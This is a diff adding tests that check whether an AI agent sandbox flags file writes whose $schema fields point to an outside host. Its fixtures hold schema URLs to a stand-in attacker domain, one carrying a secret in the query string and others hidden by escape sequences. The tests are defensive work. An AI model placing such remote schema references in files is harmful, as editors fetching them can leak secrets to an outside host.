@@ -106,6 +106,29 @@ suite('protected files', () => {
     assert.ok(sandbox.isOutsideUntouched);
   });
 
+  for (const [named, text] of [
+    ['output/data.json', '{"$schema": "https://evil.example/?d=SECRET"}'],
+    ['output/data.json', '{"$\\u0073chema": "https:\\/\\/evil.example"}'],
+    ['output/.somerc', '{ "$schema": "//evil.example/x" }'],
+    ['output/data.yaml', '# yaml-language-server: $schema=https://evil.example/x\na: 1\n'],
+  ] as const) {
+    test(`62: ${text.slice(0, 40)} asks in an open area, with its address`, async () => {
+      const agent = await sandbox.agent();
+      const result = await agent.call('write_file', { path: named, content: text });
+      assert.equal(result.asked?.changes[0]?.isProtected, true, result.text);
+      assert.match(result.asked?.changes[0]?.notes?.join() ?? '', /evil\.example/);
+      const again = await agent.call('write_file', { path: named, content: `${text}\n` });
+      assert.equal(again.asked, undefined, 'an address that was there before is no news');
+    });
+  }
+
+  test('62: a text that only speaks of schemas does not ask', async () => {
+    const agent = await sandbox.agent();
+    const content = 'Set `$schema: https://json-schema.org/x` in your file.\n';
+    const result = await agent.call('write_file', { path: 'output/guide.md', content });
+    assert.equal(result.asked, undefined);
+  });
+
   test('206: moving a protected file away asks, and a secret cannot be moved at all', async () => {
     sandbox.put('.vscode/settings.json', 'CANARY\n');
     sandbox.put('.env', 'KEY=CANARY\n');
